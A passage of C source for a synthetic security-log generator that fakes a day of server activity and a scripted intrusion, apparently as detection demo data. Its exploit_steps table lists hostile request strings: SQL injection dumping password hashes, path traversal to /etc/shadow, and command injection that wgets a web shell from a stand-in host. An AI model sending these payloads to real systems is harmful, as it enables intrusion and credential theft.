			  "%s %s port %u [preauth]", who, b->name, ip, port);
	} else {
		auth_line(g, t, e->host, "sshd", pid, "Received disconnect "
			  "from %s port %u:11: Bye Bye [preauth]", ip, port);
		auth_line(g, t, e->host, "sshd", pid, "Disconnected from %s %s "
			  "%s port %u [preauth]", who, b->name, ip, port);
	}
	if (e->n > 1)
		auth_line(g, t + 100, e->host, "sshd", pid, "PAM %u more "
			  "authentication failures; logname= uid=0 euid=0 "
			  "tty=ssh ruser= rhost=%s%s", e->n - 1, ip, pam.b);
	if (e->n > 3)
		auth_line(g, t + 100, e->host, "sshd", pid, "PAM service(sshd) "
			  "ignoring max retries; %u > 3", e->n);
}

/* One brute-force connection: e->n password guesses for one name. */
static void ep_brute(struct gen *g, const struct episode *e)
{
	const struct brute_user *b = &brute_users[e->user];
	const char *inv = b->valid ? "" : "invalid user ";
	const char *ip = e->peer->ip;
	unsigned pid = next_pid(g, e->host);
	unsigned port = ephemeral_port(g);
	int64_t t = e->ts;

	if (!b->valid) {
		auth_line(g, t, e->host, "sshd", pid, "Invalid user %s from %s "
			  "port %u", b->name, ip, port);
		auth_line(g, t + 400, e->host, "sshd", pid,
			  "pam_unix(sshd:auth): check pass; user unknown");
	}
	auth_line(g, t + 500, e->host, "sshd", pid, "pam_unix(sshd:auth): "
		  "authentication failure; logname= uid=0 euid=0 tty=ssh "
		  "ruser= rhost=%s%s%s", ip, b->valid ? "  user=" : "",
		  b->valid ? b->name : "");
	for (unsigned i = 0; i < e->n; i++) {
		t += 1500000 + rng_below(&g->rng, 2000000);
		auth_line(g, t, e->host, "sshd", pid, "Failed password for "
			  "%s%s from %s port %u ssh2", inv, b->name, ip, port);
		e->peer->failed++;
	}
	brute_close(g, e, t + 300000, pid, port);
	eve_ssh(g, e->ts, t + 300000, ip, port, hosts[e->host].ip,
		"libssh2_1.10.0");
	if (rng_pct(&g->rng, 20) && g->eve.fd >= 0)
		eve_alert(g, e->ts + 1000, new_flow_id(g), ip, port,
			  hosts[e->host].ip, 22, &sig_ssh_scan, NULL);
}

/*
 * The intruder, logged in as deploy on bastion, mistypes the password for
 * `sudo cat /etc/shadow`, gives up, then gets a root shell with `sudo su -`
 * held until n seconds later.
 */
static void ep_root(struct gen *g, const struct episode *e)
{
	const struct user_def *u = &users[USER_DEPLOY];
	unsigned pts = USER_DEPLOY % 3;
	int64_t t = e->ts;
	unsigned pid;

	sudo_auth_failure(g, t, HOST_BASTION, u);
	auth_line(g, t + 7 * USEC, HOST_BASTION, "sudo", 0, "  deploy : 1 "
		  "incorrect password attempt ; TTY=pts/%u ; "
		  "PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/cat "
		  "/etc/shadow", pts);
	t += 41 * USEC;
	sudo_session(g, t, HOST_BASTION, u, "/usr/bin/su -",
		     e->ts + (int64_t)e->n * USEC + 400000);
	pid = next_pid(g, HOST_BASTION);
	auth_line(g, t + 8000, HOST_BASTION, "su", pid, "(to root) root on "
		  "pts/%u", pts);
	auth_line(g, t + 9000, HOST_BASTION, "su", pid, "pam_unix(su-l:session)"
		  ": session opened for user root(uid=0) by deploy(uid=0)");
	auth_line(g, e->ts + (int64_t)e->n * USEC, HOST_BASTION, "su", pid,
		  "pam_unix(su-l:session): session closed for user root");
}

/* From the root shell: a new account, given a password and sudo. */
static void ep_persist(struct gen *g, const struct episode *e)
{
	const struct user_def *u = &users[USER_SYSUPD];
	unsigned pid = next_pid(g, HOST_BASTION);
	int64_t t = e->ts;

	auth_line(g, t, HOST_BASTION, "useradd", pid, "new group: name=%s, "
		  "GID=%u", u->name, u->uid);
	auth_line(g, t + 2000, HOST_BASTION, "useradd", pid, "new user: "
		  "name=%s, UID=%u, GID=%u, home=/home/%s, shell=/bin/bash, "
		  "from=/dev/pts/%u", u->name, u->uid, u->uid, u->name,
		  USER_DEPLOY % 3);
	t += 9 * USEC + rng_below(&g->rng, 3000000);
	auth_line(g, t, HOST_BASTION, "passwd", next_pid(g, HOST_BASTION),
		  "pam_unix(passwd:chauthtok): password changed for %s",
		  u->name);
	t += 14 * USEC + rng_below(&g->rng, 3000000);
	pid = next_pid(g, HOST_BASTION);
	auth_line(g, t, HOST_BASTION, "usermod", pid, "add '%s' to group "
		  "'sudo'", u->name);
	auth_line(g, t + 400, HOST_BASTION, "usermod", pid, "add '%s' to "
		  "shadow group 'sudo'", u->name);
}

/* One step of the web attack, in the order it is sent. */
struct exploit_step {
	unsigned gap_ms;	/* after the previous step */
	const char *method;
	const char *target;
	unsigned status, bytes;
	unsigned tool;		/* index into exploit_uas */
	const struct sig *sig;
};

/* The tools of the web attack, by exploit_step.tool. */
static const char *const exploit_uas[] = {
	"sqlmap/1.8.2#stable (https://sqlmap.org)",
	"curl/8.5.0",
	"python-requests/2.31.0",
};

static const struct exploit_step exploit_steps[] = {
	{ 0, "GET", "/products?id=2", 200, 10211, 0, &sig_sqlmap },
	{ 900, "GET", "/products?id=2%27", 500, 612, 0, NULL },
	{ 700, "GET", "/products?id=2%20AND%204123%3D4123", 200, 10211, 0,
	  NULL },
	{ 600, "GET", "/products?id=2%20AND%204123%3D4124", 200, 3120, 0,
	  NULL },
	{ 800, "GET", "/products?id=2%20AND%20SLEEP%285%29--%20-", 200, 10211,
	  0, NULL },
	{ 5600, "GET", "/products?id=2%20ORDER%20BY%205--%20-", 500, 612, 0,
	  NULL },
	{ 700, "GET", "/products?id=2%20ORDER%20BY%204--%20-", 200, 10211, 0,
	  NULL },
	{ 900, "GET", "/products?id=2%20UNION%20ALL%20SELECT%20NULL%2CNULL"
	  "%2CNULL%2CNULL--%20-", 200, 10388, 0, &sig_union },
	{ 1200, "GET", "/products?id=-2%20UNION%20ALL%20SELECT%201%2Cusername"
	  "%2Cpassword_hash%2C4%20FROM%20users--%20-", 200, 11942, 0,
	  &sig_union },
	{ 95000, "GET", "/download?file=report.pdf", 200, 48213, 1, NULL },
	{ 21000, "GET", "/download?file=../../../../etc/passwd", 200, 1734, 1,
	  &sig_passwd },
	{ 9000, "GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fshadow", 403,
	  548, 1, NULL },
	{ 64000, "GET", "/api/v1/ping?host=127.0.0.1", 200, 91, 2, NULL },
	{ 4000, "GET", "/api/v1/ping?host=127.0.0.1%3Bid", 200, 146, 2,
	  &sig_cmdinj },
	{ 5000, "GET", "/api/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd", 200,
	  1825, 2, &sig_passwd },
	{ 31000, "GET", "/api/v1/ping?host=127.0.0.1%7Cwget%20-qO%20/var/www/"
	  "site/uploads/img.php%20http%3A%2F%2F203.0.113.45%2Fs.txt", 200, 91,
	  2, &sig_cmdinj },
	{ 12000, "GET", "/uploads/img.php?cmd=id", 200, 54, 2,
	  &sig_webshell },
	{ 8000, "GET", "/uploads/img.php?cmd=uname%20-a", 200, 101, 2,
	  &sig_webshell },
	{ 9000, "GET", "/uploads/img.php?cmd=cat%20/etc/passwd", 200, 1734, 2,
	  &sig_webshell },
	{ 26000, "POST", "/uploads/img.php", 200, 12, 2, NULL },
};

/* Runs exploit_steps against web01 over plain HTTP, alerts included. */
static void ep_exploit(struct gen *g, const struct episode *e)
{
	struct request r = { .from = e->peer, .plain = true };
	int64_t t = e->ts;

	for (size_t i = 0; i < CORE_ARRAY_LEN(exploit_steps); i++) {
		const struct exploit_step *s = &exploit_steps[i];

		t += (int64_t)s->gap_ms * 1000 + rng_below(&g->rng, 300000);
		r.method = s->method;
		r.ua = exploit_uas[s->tool];
		tool_request(g, t, &r, s->target, s->status, s->bytes);
		if (s->sig && g->eve.fd >= 0) {
			struct eve_http h = { NULL, s->target, r.ua, s->method,
					      r.ctype, s->status, s->bytes };

			eve_alert(g, t + 700, r.flow_id, e->peer->ip, r.sport,
				  hosts[HOST_WEB01].ip, 80, s->sig, &h);
		}
	}
}

typedef void episode_fn(struct gen *g, const struct episode *e);

static episode_fn *const episode_fns[] = {
	[EP_CRON] = ep_cron,
	[EP_LOGIN] = ep_login,
	[EP_SUDO] = ep_sudo,
	[EP_DEPLOY] = ep_deploy,
	[EP_VISIT] = ep_visit,
	[EP_CRAWL] = ep_crawl,
	[EP_HEALTH] = ep_health,
	[EP_DNS] = ep_dns,
	[EP_UFW_NOISE] = ep_ufw_noise,
	[EP_ZGRAB] = ep_zgrab,
	[EP_POLICY] = ep_policy,
	[EP_PORTSCAN] = ep_portscan,
	[EP_WEBSCAN] = ep_webscan,
	[EP_BRUTE] = ep_brute,
	[EP_ROOT] = ep_root,
	[EP_PERSIST] = ep_persist,
	[EP_EXPLOIT] = ep_exploit,
};

/* -------------------------------------------------------------- schedule */

/* Episodes to run, in any order until sorted.  On ENOMEM err is set. */
struct schedule {
	struct episode *v;
	size_t n, cap;
	int err;
	struct episode scratch;	/* target of adds after a failure */
};

/*
 * Appends an episode and returns it for the caller to fill in.  Never
 * NULL: after an allocation failure it returns scratch and run_day fails.
 */
static struct episode *sched_add(struct schedule *s, int64_t ts,
				 enum ep_kind kind, unsigned host,
				 struct peer *peer)
{
	struct episode *e;

	if (s->n == s->cap && !s->err) {
		size_t cap = s->cap ? 2 * s->cap : 4096;
		struct episode *v = realloc(s->v, cap * sizeof(*v));

		if (v) {
			s->v = v;
			s->cap = cap;
		} else {
			s->err = ENOMEM;
		}
	}
	e = s->n < s->cap ? &s->v[s->n] : &s->scratch;
	memset(e, 0, sizeof(*e));
	e->ts = ts;
	e->order = s->n;
	e->kind = (uint8_t)kind;
	e->host = (uint8_t)host;
	e->peer = peer;
	if (e != &s->scratch)
		s->n++;
	return e;
}

static int episode_cmp(const void *pa, const void *pb)
{
	const struct episode *a = pa, *b = pb;

	if (a->ts != b->ts)
		return a->ts < b->ts ? -1 : 1;
	return a->order < b->order ? -1 : a->order > b->order;
}

/* The story's cast; addresses are fixed so README can name them. */
struct cast {
	struct peer *a45, *a46, *a47, *a52;	/* 203.0.113.x */
	struct peer *zgrab, *crawler, *monitor;
	struct peer *visitors[320];
	size_t nvisitors;
	struct peer *noise[8];
	struct peer *pool[64];			/* --bytes attackers */
	size_t npool;
};

static const char *scenario_date = "2026-03-10";

/* A time of the scenario day. */
static int64_t at(int64_t day0, unsigned h, unsigned m, unsigned s)
{
	return day0 + (int64_t)h * HOUR + (int64_t)m * MINUTE +
	       (int64_t)s * USEC;
}

/* sysstat every 10 minutes, hourly and daily run-parts, site jobs. */
static void cron_day(struct gen *g, struct schedule *s, int64_t day0)
{
	for (unsigned h = 0; h < HOST__COUNT; h++) {
		for (unsigned m = 5; m < 24 * 60; m += 10)
			sched_add(s, day0 + m * MINUTE + rng_below(&g->rng,
				  90000), EP_CRON, h, NULL)->n = CRON_SA1;
		for (unsigned hr = 0; hr < 24; hr++)
			sched_add(s, at(day0, hr, 17, 0) + rng_below(&g->rng,
				  90000), EP_CRON, h, NULL)->n = CRON_HOURLY;
		sched_add(s, at(day0, 6, 25, 0) + 40000, EP_CRON, h,
			  NULL)->n = CRON_DAILY;
	}
	for (unsigned m = 0; m < 24 * 60; m += 15)
		sched_add(s, day0 + m * MINUTE + 60000, EP_CRON, HOST_WEB01,
			  NULL)->n = CRON_SITE;
	sched_add(s, at(day0, 2, 30, 0) + 50000, EP_CRON, HOST_DB01,
		  NULL)->n = CRON_BACKUP;
}

/* A routine command that makes sense on host. */
static unsigned pick_sudo(struct gen *g, unsigned host)
{
	for (;;) {
		unsigned i = rng_below(&g->rng, CORE_ARRAY_LEN(sudo_cmds));

		if (sudo_cmds[i].host < 0 || sudo_cmds[i].host == (int)host)
			return i;
	}
}

/* A hop from bastion to web01 or db01, with sudo for admins. */
static void staff_hop(struct gen *g, struct schedule *s, unsigned u,
		      int64_t ts, unsigned flags)
{
	unsigned host = rng_pct(&g->rng, 50) ? HOST_WEB01 : HOST_DB01;
	unsigned secs = 180 + rng_below(&g->rng, 2400);
	struct episode *e;

	if (flags & EPF_MISTYPE)
		host = HOST_DB01;
	e = sched_add(s, ts, EP_LOGIN, host, g->bastion);
	e->user = (uint8_t)u;
	e->n = secs;
	e->flags = (uint8_t)flags;
	if (!users[u].admin)
		return;
	for (unsigned k = 1 + rng_below(&g->rng, 3); k > 0; k--) {
		e = sched_add(s, ts + 40 * USEC + (int64_t)rng_below(&g->rng,
			      secs - 60) * USEC, EP_SUDO, host, NULL);
		e->user = (uint8_t)u;
		e->n = pick_sudo(g, host);
	}
}

/*
 * Staff log in to bastion with their keys from the office in the morning
 * and hop to the servers from there.  carol mistypes her password once
 * on db01 and bob once at a sudo prompt: both must stay benign.
 */
static void staff_day(struct gen *g, struct schedule *s, int64_t day0)
{
	struct episode *e;

	for (unsigned u = USER_ALICE; u <= USER_DAVE; u++) {
		int64_t start = at(day0, 8, 5, 0) +
				(int64_t)rng_below(&g->rng, 3600) * USEC;
		int64_t end = at(day0, 16, 50, 0) +
			      (int64_t)rng_below(&g->rng, 5400) * USEC;
		unsigned hops = 2 + rng_below(&g->rng, 4);

		e = sched_add(s, start, EP_LOGIN, HOST_BASTION, g->office[u]);
		e->user = (uint8_t)u;
		e->n = (uint32_t)((end - start) / USEC);
		for (unsigned k = 0; k < hops; k++)
			staff_hop(g, s, u, start + 5 * MINUTE +
				  (int64_t)rng_below(&g->rng, (uint32_t)((end -
				  start) / USEC) - 3600) * USEC,
				  u == USER_CAROL && k == 0 ?
				  EPF_PASSWORD | EPF_MISTYPE : 0);
	}
	e = sched_add(s, at(day0, 11, 1, 30), EP_LOGIN, HOST_WEB01, g->bastion);
	e->user = USER_BOB;
	e->n = 600;
	e = sched_add(s, at(day0, 11, 2, 47), EP_SUDO, HOST_WEB01, NULL);
	e->user = USER_BOB;
	e->flags = EPF_MISTYPE;
	e->n = 0;
	sched_add(s, at(day0, 9, 42, 11), EP_DEPLOY, HOST_WEB01, g->ci);
	sched_add(s, at(day0, 11, 17, 3), EP_DEPLOY, HOST_WEB01, g->ci);
	sched_add(s, at(day0, 14, 5, 40), EP_DEPLOY, HOST_WEB01, g->ci);
	sched_add(s, at(day0, 16, 31, 9), EP_DEPLOY, HOST_WEB01, g->ci);
}

/* Share of the day's visits per hour, UTC, for a European audience. */
static const unsigned diurnal[24] = {
	2, 1, 1, 1, 1, 2, 4, 7, 9, 10, 10, 9, 9, 10, 10, 9, 8, 8, 8, 7, 6,
	5, 4, 3,
};

/* A moment of the day drawn from the diurnal curve. */
static int64_t diurnal_time(struct gen *g, int64_t day0)
{
	unsigned total = 0, pick, h = 0;

	for (unsigned i = 0; i < 24; i++)
		total += diurnal[i];
	pick = rng_below(&g->rng, total);
	while (pick >= diurnal[h])
		pick -= diurnal[h++];
	return day0 + (int64_t)h * HOUR +
	       (int64_t)rng_below(&g->rng, 3600000) * 1000;
}

/* One visit by a random visitor; some start on http://, some cached. */
static void add_visit(struct gen *g, struct schedule *s, struct cast *c,
		      int64_t ts)
{
	struct episode *e = sched_add(s, ts, EP_VISIT, HOST_WEB01,
			c->visitors[rng_below(&g->rng,
					      (uint32_t)c->nvisitors)]);

	e->n = 1 + rng_below(&g->rng, 6);
	if (rng_pct(&g->rng, 10))
		e->flags |= EPF_PLAIN;
	if (rng_pct(&g->rng, 30))
		e->flags |= EPF_CACHED;
}

/* Visitors, crawlers, the monitor, DNS and background drops. */
static void web_day(struct gen *g, struct schedule *s, struct cast *c,
		    int64_t day0, unsigned scale)
{
	for (unsigned i = 0; i < 260 * scale; i++)
		add_visit(g, s, c, diurnal_time(g, day0));
	for (unsigned i = 0; i < 12 * scale; i++)
		sched_add(s, day0 + (int64_t)rng_below(&g->rng, 86400) * USEC,
			  EP_CRAWL, HOST_WEB01, c->crawler)->n =
			3 + rng_below(&g->rng, 8);
	for (unsigned m = 0; m < 24 * 60; m += 5)
		sched_add(s, day0 + m * MINUTE + 250000, EP_HEALTH,
			  HOST_WEB01, c->monitor);
	for (unsigned h = 0; h < HOST__COUNT; h++)
		for (unsigned m = 0; m < 24 * 60; m += 12 + rng_below(&g->rng,
								       10))
			sched_add(s, day0 + m * MINUTE + rng_below(&g->rng,
				  60000000), EP_DNS, h, NULL)->n =
				rng_below(&g->rng, 5);
	for (size_t i = 0; i < CORE_ARRAY_LEN(c->noise); i++)
		sched_add(s, day0 + (int64_t)rng_below(&g->rng, 86400) * USEC,
			  EP_UFW_NOISE, HOST_BASTION, c->noise[i]);
}

/* One attacker's stream of guesses against host between t and end. */
static void brute_wave(struct gen *g, struct schedule *s, struct peer *p,
		       unsigned host, int64_t t, int64_t end)
{
	while (t < end) {
		unsigned u = rng_below(&g->rng, BRUTE_DEPLOY);
		struct episode *e = sched_add(s, t, EP_BRUTE, host, p);

		e->user = (uint8_t)u;
		if (brute_users[u].valid)
			e->n = rng_pct(&g->rng, 70) ? 6 :
			       1 + rng_below(&g->rng, 5);
		else
			e->n = 1 + rng_below(&g->rng, 3);
		t += (int64_t)(e->n * 3 + 12 + rng_below(&g->rng, 40)) * USEC;
	}
}

/*
 * The attack of README, in story order: scan, web discovery, brute force,
 * deploy's password guessed and used, root, persistence, web exploitation,
 * the return as the new account.
 */
static void intrusion(struct gen *g, struct schedule *s, struct cast *c,
		      int64_t day0)
{
	struct episode *e;
	int64_t t;

	sched_add(s, at(day0, 13, 2, 5), EP_PORTSCAN, HOST_WEB01,
		  c->a45)->n = 1;
	sched_add(s, at(day0, 13, 4, 31), EP_PORTSCAN, HOST_BASTION,
		  c->a45)->n = 2;
	sched_add(s, at(day0, 13, 9, 12), EP_WEBSCAN, HOST_WEB01, c->a45)->n =
		4 * CORE_ARRAY_LEN(dirb_words);
	e = sched_add(s, at(day0, 13, 21, 40), EP_WEBSCAN, HOST_WEB01, c->a46);
	e->user = 1;
	e->n = 120;

	brute_wave(g, s, c->a45, HOST_BASTION, at(day0, 13, 30, 2),
		   at(day0, 14, 24, 0));
	brute_wave(g, s, c->a46, HOST_WEB01, at(day0, 13, 33, 40),
		   at(day0, 14, 26, 0));
	brute_wave(g, s, c->a52, HOST_WEB01, at(day0, 13, 41, 9),
		   at(day0, 14, 12, 0));
	brute_wave(g, s, c->a52, HOST_BASTION, at(day0, 13, 44, 51),
		   at(day0, 14, 18, 0));
	for (t = at(day0, 14, 28, 14); t < at(day0, 14, 40, 30);) {
		e = sched_add(s, t, EP_BRUTE, HOST_BASTION, c->a47);
		e->user = BRUTE_DEPLOY;
		e->n = 2 + rng_below(&g->rng, 2);
		t += (int64_t)(30 + rng_below(&g->rng, 50)) * USEC;
	}

	e = sched_add(s, at(day0, 14, 41, 7), EP_LOGIN, HOST_BASTION, c->a47);
	e->user = USER_DEPLOY;
	e->flags = EPF_PASSWORD;
	e->n = 44 * 60;
	sched_add(s, at(day0, 14, 43, 20), EP_ROOT, HOST_BASTION, NULL)->n =
		36 * 60;
	sched_add(s, at(day0, 14, 46, 2), EP_PERSIST, HOST_BASTION, NULL);
	sched_add(s, at(day0, 15, 5, 30), EP_EXPLOIT, HOST_WEB01, c->a45);
	e = sched_add(s, at(day0, 15, 41, 10), EP_LOGIN, HOST_BASTION, c->a47);
	e->user = USER_SYSUPD;
	e->flags = EPF_PASSWORD;
	e->n = 6 * 60 + 17;
}

/* ------------------------------------------------------------ the cast */

/* Web visitors: 200 IPv4 and 96 IPv6 documentation addresses. */
static void cast_web(struct gen *g, struct cast *c)
{
	for (unsigned i = 0; i < 200; i++)
		c->visitors[c->nvisitors++] = peer_v4(g, 198, 51, 100, 30 + i,
						      false);
	for (unsigned i = 0; i < 96; i++) {
		struct line ip = { 0 };

		ln_str(&ip, "2001:db8:");
		ln_hex(&ip, 0x1000 + rng_below(&g->rng, 0xe000), 4);
		ln_chr(&ip, ':');
		ln_hex(&ip, rng_below(&g->rng, 0x10000), 4);
		ln_str(&ip, "::");
		ln_hex(&ip, 1 + rng_below(&g->rng, 0xfff), 3);
		ip.b[ip.n] = '\0';
		c->visitors[c->nvisitors++] = peer_add(g, ip.b, false);
	}
	for (size_t i = 0; i < c->nvisitors; i++)
		c->visitors[i]->ua = (uint16_t)rng_below(&g->rng,
					CORE_ARRAY_LEN(browser_uas));
}

/*
 * Everyone the generator needs, in a fixed order so a seed always gives
 * the same addresses.  Returns false when the peer table is too small.
 */
static bool cast_init(struct gen *g, struct cast *c)
{
	static const char *const offices[] = {
		"198.51.100.10", "198.51.100.11", "198.51.100.12",
		"198.51.100.13",
	};

	memset(c, 0, sizeof(*c));
	for (unsigned u = USER_ALICE; u <= USER_DAVE; u++)
		g->office[u] = peer_add(g, offices[u], false);
	g->ci = peer_add(g, CI_RUNNER, false);
	g->bastion = peer_add(g, hosts[HOST_BASTION].ip, false);
	c->monitor = peer_add(g, "10.0.1.30", false);
	c->crawler = peer_add(g, "198.51.100.66", false);
	c->zgrab = peer_add(g, "192.0.2.150", false);
	c->a45 = peer_v4(g, 203, 0, 113, 45, true);
	c->a46 = peer_v4(g, 203, 0, 113, 46, true);
	c->a47 = peer_v4(g, 203, 0, 113, 47, true);
	c->a52 = peer_v4(g, 203, 0, 113, 52, true);
	for (size_t i = 0; i < CORE_ARRAY_LEN(c->noise); i++)
		c->noise[i] = peer_v4(g, 192, 0, 2, 20 + 13 * (unsigned)i,
				      false);
	c->pool[c->npool++] = c->a45;
	c->pool[c->npool++] = c->a46;
	c->pool[c->npool++] = c->a47;
	c->pool[c->npool++] = c->a52;
	for (unsigned i = 0; c->npool < CORE_ARRAY_LEN(c->pool); i++)
		c->pool[c->npool++] = i < 36 ?
			peer_v4(g, 203, 0, 113, 100 + i, true) :
			peer_v4(g, 192, 0, 2, 164 + i, true);
	cast_web(g, c);
	return g->npeers < g->cappeers;
}

/* Seeds the PRNG and the ids that stay fixed for a run. */
static void gen_init(struct gen *g, uint64_t seed)
{
	struct rng ids = { seed ^ 0x6a6f75726e616cULL };

	memset(g, 0, sizeof(*g));
	g->rng.s = seed;
	g->journal_seq = 0x1a2b00 + rng_below(&g->rng, 4096);
	for (unsigned h = 0; h < HOST__COUNT; h++) {
		g->pid[h] = 20000 + rng_below(&g->rng, 20000);
		g->session[h] = 100 + rng_below(&g->rng, 900);
	}
	for (unsigned u = 0; u < USER__COUNT; u++)
		make_fingerprint(users[u].name, g->fp[u]);
	make_hex_id(&ids, g->boot_id);
	make_hex_id(&ids, g->machine_id);
	make_hex_id(&ids, g->seqnum_id);
}

/* ------------------------------------------------------------ the day */

/*
 * The default scenario: schedule the whole day, sort, run in time order
 * so process ids and session numbers grow as they would.  Lines stay
 * queued until the sinks close.  Returns 0 or a negative errno value.
 */
static int run_day(struct gen *g, struct cast *c, unsigned scale)
{
	struct schedule s = { 0 };
	int64_t day0;

	core_time_from_parts(2026, 3, 10, 0, 0, 0, 0, 0, &day0);
	g->boot_ts = day0 - 41 * DAY + 7 * HOUR + 1234567;
	cron_day(g, &s, day0);
	staff_day(g, &s, day0);
	web_day(g, &s, c, day0, scale);
	sched_add(&s, at(day0, 3, 12, 40), EP_ZGRAB, HOST_WEB01, c->zgrab);
	sched_add(&s, at(day0, 10, 41, 13), EP_POLICY, HOST_DB01, NULL);
	intrusion(g, &s, c, day0);
	if (s.err) {
		free(s.v);
		return -s.err;
	}

	for (size_t i = 0; i < s.n; i++)
		s.v[i].ts += rng_below(&g->rng, 1000);
	qsort(s.v, s.n, sizeof(*s.v), episode_cmp);
	for (size_t i = 0; i < s.n; i++)
		episode_fns[s.v[i].kind](g, &s.v[i]);
	free(s.v);
	return 0;
}

/* ----------------------------------------------------- the long run */

/* Relative weights of episode kinds in --bytes mode. */
static const struct mix {
	enum ep_kind kind;
	unsigned weight;
} bytes_mix[] = {
	{ EP_VISIT, 180 }, { EP_CRAWL, 8 }, { EP_HEALTH, 60 },
	{ EP_CRON, 200 }, { EP_LOGIN, 40 }, { EP_SUDO, 40 },
	{ EP_DEPLOY, 8 }, { EP_BRUTE, 260 }, { EP_PORTSCAN, 2 },
	{ EP_WEBSCAN, 1 }, { EP_ZGRAB, 4 },
};

/* Staff log in to bastion from the office, elsewhere from bastion. */
static void pick_login(struct gen *g, struct episode *e)
{
	e->user = (uint8_t)rng_below(&g->rng, USER_DAVE + 1);
	e->host = (uint8_t)rng_below(&g->rng, HOST__COUNT);
	e->peer = e->host == HOST_BASTION ? g->office[e->user] : g->bastion;
	e->n = 180 + rng_below(&g->rng, 3600);
	if (e->host != HOST_BASTION && rng_pct(&g->rng, 4))
		e->flags = EPF_PASSWORD | EPF_MISTYPE;
}

/* A brute-force connection; low pool indices are picked more often. */
static void pick_brute(struct gen *g, struct cast *c, struct episode *e)
{
	uint32_t skew = rng_below(&g->rng, (uint32_t)c->npool) + 1;

	e->peer = c->pool[rng_below(&g->rng, skew)];
	e->host = rng_pct(&g->rng, 50) ? HOST_WEB01 : HOST_BASTION;
	e->user = (uint8_t)rng_below(&g->rng, CORE_ARRAY_LEN(brute_users));
	if (brute_users[e->user].valid)
		e->n = rng_pct(&g->rng, 70) ? 6 : 1 + rng_below(&g->rng, 5);
	else
		e->n = 1 + rng_below(&g->rng, 3);
}

/* Parameters of the remaining kinds. */
static void pick_other(struct gen *g, struct cast *c, struct episode *e)
{
	switch (e->kind) {
	case EP_VISIT:
		e->peer = c->visitors[rng_below(&g->rng,
						(uint32_t)c->nvisitors)];
		e->n = 1 + rng_below(&g->rng, 6);
		e->flags = rng_pct(&g->rng, 30) ? EPF_CACHED : 0;
		break;
	case EP_CRAWL:
		e->peer = c->crawler;
		e->n = 3 + rng_below(&g->rng, 8);
		break;
	case EP_HEALTH:
		e->peer = c->monitor;
		break;
	case EP_CRON:
		e->host = (uint8_t)rng_below(&g->rng, HOST__COUNT);
		e->n = rng_pct(&g->rng, 75) ? CRON_SA1 : rng_pct(&g->rng, 50) ?
		       CRON_HOURLY : e->host == HOST_WEB01 ? CRON_SITE :
		       CRON_DAILY;
		break;
	case EP_PORTSCAN:
	case EP_WEBSCAN:
		e->peer = c->pool[rng_below(&g->rng, (uint32_t)c->npool)];
		e->user = (uint8_t)rng_below(&g->rng, 2);
		e->n = e->kind == EP_PORTSCAN ? 1 :
		       40 + rng_below(&g->rng, 200);
		e->host = e->kind == EP_PORTSCAN && rng_pct(&g->rng, 50) ?
			  HOST_BASTION : HOST_WEB01;
		break;
	default:
		e->peer = c->zgrab;
		break;
	}
}

/* Draws one episode of bytes_mix starting at now. */
static void pick_episode(struct gen *g, struct cast *c, struct episode *e,
			 int64_t now)
{
	unsigned total = 0, r;
	size_t i = 0;

	for (size_t k = 0; k < CORE_ARRAY_LEN(bytes_mix); k++)
		total += bytes_mix[k].weight;
	r = rng_below(&g->rng, total);
	while (r >= bytes_mix[i].weight)
		r -= bytes_mix[i++].weight;

	memset(e, 0, sizeof(*e));
	e->ts = now;
	e->kind = (uint8_t)bytes_mix[i].kind;
	e->host = HOST_WEB01;
	if (e->kind == EP_LOGIN) {
		pick_login(g, e);
	} else if (e->kind == EP_SUDO) {
		e->user = (uint8_t)rng_below(&g->rng, 2);
		e->host = (uint8_t)rng_below(&g->rng, HOST__COUNT);
		e->n = pick_sudo(g, e->host);
		e->flags = rng_pct(&g->rng, 5) ? EPF_MISTYPE : 0;
	} else if (e->kind == EP_BRUTE) {
		pick_brute(g, c, e);
	} else {
		pick_other(g, c, e);
	}
}

/* The compromise, once, half way: the same steps as the demo day. */
static void bytes_breach(struct gen *g, struct cast *c, int64_t now)
{
	struct episode e = { .ts = now, .kind = EP_LOGIN,
			     .host = HOST_BASTION, .user = USER_DEPLOY,
			     .flags = EPF_PASSWORD, .n = 44 * 60,
			     .peer = c->a47 };

	ep_login(g, &e);
	e.ts = now + 2 * MINUTE;
	e.n = 36 * 60;
	ep_root(g, &e);
	e.ts = now + 5 * MINUTE;
	ep_persist(g, &e);
}

/*
 * Writes about target bytes of auth.log and access.log.  The clock is
 * start + span * written / target: the period is the same for any size
 * and episodes start in time order.  Returns when the lines pushed reach
 * target; the caller flushes what is still queued.
 */
static int64_t run_bytes(struct gen *g, struct cast *c, uint64_t target)
{
	int64_t start, span = 27 * DAY, now = 0, breach = 0;
	struct episode e;

	core_time_from_parts(2026, 2, 1, 0, 0, 0, 0, 0, &start);
	g->boot_ts = start - 3 * DAY;
	for (;;) {
		uint64_t done = g->auth.bytes + g->web.bytes;

		if (done >= target || g->auth.err || g->web.err)
			break;
		now = start + (int64_t)((double)span * (double)done /
					(double)target);
		if (!breach && done >= target / 2) {
			breach = now;
			bytes_breach(g, c, now);
		}
		pick_episode(g, c, &e, now);
		episode_fns[e.kind](g, &e);
		sink_flush(&g->auth, now);
		sink_flush(&g->web, now);
	}
	return breach;
}

/* --------------------------------------------------------- ground truth */

/* The exact counts a test can assert, after the prose. */
static void readme_counts(FILE *f, const struct gen *g, const struct cast *c)
{
	const struct peer *atk[] = { c->a45, c->a46, c->a47, c->a52 };
	uint64_t total = 0;

	fprintf(f, "Failed-password lines (\"Failed password for ...\") per "
		"source address:\n\n");
	for (size_t i = 0; i < CORE_ARRAY_LEN(atk); i++) {
		fprintf(f, "  %-15s %4llu  attacker\n", atk[i]->ip,
			(unsigned long long)atk[i]->failed);
		total += atk[i]->failed;
	}
	fprintf(f, "  %-15s %4llu  total from attackers\n", "",
		(unsigned long long)total);
	for (size_t i = 0; i < g->npeers; i++)
		if (!g->peers[i].hostile && g->peers[i].failed)
			fprintf(f, "  %-15s %4llu  benign (a mistyped "
				"password, then success)\n", g->peers[i].ip,
				(unsigned long long)g->peers[i].failed);
	fprintf(f, "\nLines: auth.log %llu, access.log %llu, eve.json %llu, "
		"journal.json %llu.\n", (unsigned long long)g->auth.lines,
		(unsigned long long)g->web.lines,
		(unsigned long long)g->eve.lines,
		(unsigned long long)g->journal.lines);
}

static const char readme_text[] =
"Synthetic logs of one day, %s (UTC), written by vigil-demo-gen\n"
"(seed %llu, scale %u).  Every address is a documentation or private one.\n"
"\n"
"Files\n"
